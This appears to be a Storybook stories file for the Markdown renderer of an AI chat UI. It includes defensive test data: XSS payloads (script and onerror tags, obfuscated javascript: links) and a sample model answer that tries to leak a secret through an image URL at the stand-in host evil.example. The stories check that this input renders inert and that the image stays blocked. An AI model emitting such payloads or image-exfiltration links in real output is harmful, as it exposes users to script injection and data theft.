import type { Meta, StoryObj } from '@storybook/react-vite';
import { useEffect, useState } from 'react';
import { expect } from 'storybook/test';
import { Button } from '../shared/Button.js';
import { Lightbox } from '../shared/Lightbox.js';
import { Markdown } from './Markdown.js';

/** A small PNG drawn at runtime, so the stories need no network. */
function samplePng(hue: number): string {
  const canvas = document.createElement('canvas');
  canvas.width = 320;
  canvas.height = 200;
  const context = canvas.getContext('2d');
  if (!context) return '';
  const gradient = context.createLinearGradient(0, 0, 320, 200);
  gradient.addColorStop(0, `hsl(${hue} 80% 60%)`);
  gradient.addColorStop(1, `hsl(${hue + 60} 80% 40%)`);
  context.fillStyle = gradient;
  context.fillRect(0, 0, 320, 200);
  return canvas.toDataURL('image/png');
}

const kitchenSink = `# Markdown kitchen sink

Paragraphs with *emphasis*, **strong**, ***both***, ~~strikethrough~~, \`inline code\`,
a [link](https://example.com "Example"), an autolink <https://aitre.example/docs> and a bare
URL www.example.org. Entities decode as text: &copy; &mdash; &#x4E2D;&#25991;.
A line ending in two spaces  
breaks the line.

## Lists

- Unordered item
- Item with a nested list
  1. first
  2. second
     - deeper
- [x] A finished task
- [ ] A task still to do

3. An ordered list
4. that starts at three

> A blockquote with **markup**, and
> - a list inside it

---

### Code

\`\`\`ts
export function greet(name: string): string {
  return \`Hello, \${name}!\`;
}
\`\`\`

    indented code block
      keeps its indentation

### Table

| Model | Context | Price (in / out) | Notes |
|:------|:-------:|-----------------:|-------|
| gpt-4o-mini | 128k | $0.15 / $0.60 | fast, cheap, a very long note that makes the table scroll sideways on narrow screens |
| o3-mini | 200k | $1.10 / $4.40 | reasoning |

### Image

![A gradient](IMAGE)
`;

const unsafe = `Raw HTML is shown as text: <img src=x onerror=alert(1)> and <script>alert(1)</script>.

Links that are not http(s) or mailto become text:
[javascript](javascript:alert(1)), [upper](JAVASCRIPT:alert(1)),
[entity](jav&#x61;script:alert(1)), [zero width](java\u200bscript:alert(1)),
[data](data:text/html,hi), [vbscript](vbscript:msgbox(1)).

An SVG data image shows its alt text: ![svg alt](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
`;

const meta = {
  title: 'Markdown/Markdown',
  component: Markdown,
  args: { source: '', streaming: false },
} satisfies Meta<typeof Markdown>;

// Storybook reads the story group from a default export.
export default meta;

type Story = StoryObj<typeof meta>;

/** Every construct the renderer supports. */
export const KitchenSink: Story = {
  render: (args) => {
    const [image] = useState(() => samplePng(220));
    const [open, setOpen] = useState<{ src: string; alt: string } | null>(null);
    return (
      <div style={{ maxWidth: 720 }}>
        <Markdown
          {...args}
          source={kitchenSink.replace('IMAGE', image)}
          onImageClick={(src, alt) => setOpen({ src, alt })}
        />
        {open && (
          <Lightbox
            open
            onOpenChange={(next) => !next && setOpen(null)}
            src={open.src}
            alt={open.alt}
            downloadName="gradient.png"
          />
        )}
      </div>
    );
  },
};

function StreamingDemo({ text, step }: { text: string; step: number }) {
  const [length, setLength] = useState(0);
  useEffect(() => {
    if (length >= text.length) return;
    const timer = setTimeout(() => setLength((current) => current + step), 30);
    return () => clearTimeout(timer);
  }, [length, step, text.length]);
  return (
    <div style={{ maxWidth: 720, display: 'grid', gap: 16 }}>
      <div>
        <Button variant="outline" size="sm" onClick={() => setLength(0)}>
          Replay
        </Button>
      </div>
      <Markdown source={text.slice(0, length)} streaming={length < text.length} />
    </div>
  );
}

/** Text arriving a few characters at a time; finished blocks are not re-rendered. */
export const Streaming: Story = {
  render: () => <StreamingDemo text={kitchenSink.replace(/\n### Image[\s\S]*$/, '')} step={4} />,
};

/** Hostile input renders as inert text. */
export const UnsafeInput: Story = {
  args: { source: unsafe },
};

/** A reply in Chinese, mixing code and lists. */
export const Chinese: Story = {
  args: {
    source:
      '## 安装\n\n先安装依赖：\n\n```bash\npnpm add @aitre/ui @aitre/react\n```\n\n然后：\n\n1. 在应用外层包上 `AitreProvider`\n2. 引入一次 `@aitre/ui/styles.css`\n3. 放入 `<Chat />` 即可\n\n> 提示：API 密钥应当放在服务端。',
  },
};

/**
 * An answer trying to leak data through a foreign image: with an origin policy it shows a
 * placeholder naming the host, and nothing loads until the user activates it.
 */
export const BlockedImage: Story = {
  args: {
    source:
      'Here is your summary.\n\n![chart](https://evil.example/p.png?leak=secret)\n\nAsk me anything else.',
    imageOrigins: [],
  },
  play: async ({ canvas, canvasElement, userEvent }) => {
    const load = await canvas.findByRole('button', { name: /evil\.example/ });
    await expect(load).toHaveAttribute('data-state', 'blocked');
    await expect(canvasElement.querySelector('img')).toBeNull();
    await userEvent.tab();
    await expect(load).toHaveFocus();
  },
};
